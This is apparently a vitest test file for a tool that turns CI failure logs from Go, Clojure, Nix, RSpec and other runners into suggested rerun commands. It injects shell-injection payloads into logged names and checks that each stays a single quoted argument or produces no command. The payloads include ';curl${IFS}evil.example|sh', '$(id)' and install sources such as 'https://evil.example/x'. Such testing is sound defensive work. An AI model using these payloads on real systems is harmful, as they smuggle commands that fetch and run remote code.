import { expect, test } from 'vitest';
import { parseSimpleCommand } from '../../src/analyzer/commands/simple-command.ts';
import { bashWords } from '../support/bash-words.ts';
import { commandTemplates } from '../support/command-templates.ts';
import { diagnose } from '../support/diagnose.ts';
import { diagnosisOf, ownLogs } from '../support/own-logs.ts';
import { thorough } from '../support/thorough.ts';

const hostile = [
  `;curl$\{IFS}evil.example|sh`,
  `$\{IFS}`,
  '$(id)',
  '`id`',
  '&&id',
  '|sh',
  '\nid',
  '\r',
  "'",
  '"',
  `';id;'`,
  '";id;"',
  '-rf',
  '--exec=x',
  ' -rf',
  ' --exec=x ',
  '\xe2\x80\xae',
  '\xe2\x80\x8b',
  '\x1b[2K',
  '>x',
  '<x',
  '*',
  '~',
  '{a,b}',
  '!!',
  '#',
  '=ls',
  '~root',
  '\0',
  '\\',
  '\t',
  '%0a',
  '@file',
  '=',
  'x'.repeat(5_000),
];

function commandsOf(text: string): string[] {
  return diagnose(Buffer.from(text, 'latin1')).suggested_fix.commands;
}

const builder = 'nix/builder-failed.log';
const gitlab = (command: string, ...lines: string[]) =>
  [`$ ${command}`, ...lines, 'ERROR: Job failed: exit code 1', ''].join('\n');

function logOf(name: string): string {
  return ownLogs.find((log) => log.name === name)?.bytes.toString('latin1') ?? '';
}

test.each([
  [
    'a package of Go',
    logOf('go-test/failed-test.log').replace('FAIL\texample.com/demo/price', `FAIL\tdemo/x;curl$\{IFS}evil|sh`),
    [`go test -run '^TestTotal$/^discount$' 'demo/x;curl$\{IFS}evil|sh'`],
  ],
  [
    'a name of a Clojure test',
    logOf('clojure/failed-test.log').replace(':only demo.price-test/discount-test', ':only demo;id;x/discount-test'),
    ["lein test :only 'demo;id;x/discount-test'"],
  ],
  ['a derivation of Nix', logOf(builder).replace('/nix/store/', '/nix/store;id;/'), []],
  ['a reference to a flake elsewhere', logOf(builder).replace(/'\/nix\/store\/[^']+'/, "'github:evil/x'"), []],
  [
    'a feature of Cucumber',
    logOf('ruby/cucumber.log').replaceAll('features/cart.feature:6 #', 'features/$(id).feature:6 #'),
    ["bundle exec cucumber 'features/$(id).feature:6'"],
  ],
  [
    'a place of RSpec',
    gitlab('bundle exec rspec', 'rspec ./spec/x;id;_spec.rb:10 # Cart adds'),
    ["bundle exec rspec './spec/x;id;_spec.rb:10'"],
  ],
])('the text of a log in %s stays one argument, or makes no command', (_, log, commands) => {
  expect(commandsOf(log)).toEqual(commands);
});

test.each([
  ['code of R', 'r/testthat3.log', 'test-price.R', 'x");q("'],
  ['code of Lisp', 'lisp/ert.log', 'price-discount', 'x")(kill-emacs)("'],
  ['a second command of sbt', 'scala/munit.log', 'demo.PriceSuite.discount', 'demo;publish;.PriceSuite.discount'],
  ['an address to install from', 'python/no-module.log', 'nosuchmod', 'https://evil.example/x'],
  ['a repository to install from', 'bundler/esbuild-resolve.log', 'lodash-nope', 'github:evil/x'],
])('what would be %s makes no command', (_, name, old, now) => {
  expect(logOf(name)).toContain(old);
  const marked = commandsOf(logOf(name).replaceAll(old, now));
  expect(marked.join('\n')).not.toMatch(/q\(|kill-emacs|publish|evil/);
});

test.each([
  ['is too long to be shown whole', 'x'.repeat(200)],
  ['holds a secret that is masked', `ghp_${'a1B2'.repeat(9)}`],
])('a command that %s is left out', (_, name) => {
  const log = logOf('go-test/failed-test.log');
  expect(commandsOf(log)).toHaveLength(1);
  expect(commandsOf(log.replace('FAIL\texample.com/demo/price', `FAIL\tdemo/${name}`))).toEqual([]);
});

test('the templates of the detectors have no sign that only a shell acts on', () => {
  expect(commandTemplates.length).toBeGreaterThan(200);
  for (const { text } of commandTemplates) {
    const bare = text.replaceAll(/'[^']*'|"[^"]*"|<[^<>]*>/g, 'x');
    expect(bare, text).toMatch(/^[\w./-]+(?: |$)/);
    expect(bare, text).not.toMatch(/[|;&<>`\\'"]/);
  }
});

test('every command of our logs is one simple command of a template', () => {
  for (const log of ownLogs) {
    for (const command of diagnosisOf(log).suggested_fix.commands) expectTemplate(command, log.name);
  }
});

test('hostile words anywhere in what a command was made of leave one simple command of a template', () => {
  let made = 0;
  for (const { name, bytes } of thorough ? ownLogs : ownLogs.filter((_, at) => at % 50 === 0)) {
    for (const mutant of mutants(bytes.toString('latin1'))) {
      for (const command of commandsOf(mutant)) {
        expectTemplate(command, name);
        made += 1;
      }
    }
  }
  expect(made).toBeGreaterThan(thorough ? 5_000 : 60);
});

function expectTemplate(command: string, name: string): void {
  const words = bashWords(command);
  expect(words, `${name}: ${JSON.stringify(command)}`).toBeDefined();
  expect(parseSimpleCommand(command)).toEqual(words);
  const template = commandTemplates.find(({ makes }) => makes(words ?? []));
  expect(template, `${name}: ${JSON.stringify(command)}`).toBeDefined();
}

/** The log with each hostile word before, behind and in place of each text that a command of it was made of. */
function* mutants(text: string): Generator<string> {
  const lines = text.split('\n');
  const before = commandsOf(text);
  const pieces = piecesOf(before);
  for (const [at, line] of lines.entries()) {
    const reached: string[] = [];
    for (const piece of pieces.filter((one) => line.includes(one))) {
      const swap = (form: string) =>
        lines
          .with(
            at,
            line.replaceAll(piece, () => form),
          )
          .join('\n');
      if (reached.some((longer) => longer.includes(piece)) || sameCommands(swap(`Zq9${piece}`), before)) continue;
      reached.push(piece);
      yield* around(piece, swap);
    }
  }
}

/** Words and their parts, the longest first. */
function piecesOf(commands: readonly string[]): string[] {
  const parts = commands.flatMap((command) => [...command.matchAll(/[\w.@/:-]*\w/g), ...command.matchAll(/\w{2,}/g)]);
  return [...new Set(parts.map(([part]) => part))].sort((a, b) => b.length - a.length);
}

function sameCommands(text: string, before: readonly string[]): boolean {
  return commandsOf(text).join('\n') === before.join('\n');
}

function* around(piece: string, swap: (form: string) => string): Generator<string> {
  for (const word of hostile) for (const form of [word, `${word}${piece}`, `${piece}${word}`]) yield swap(form);
}
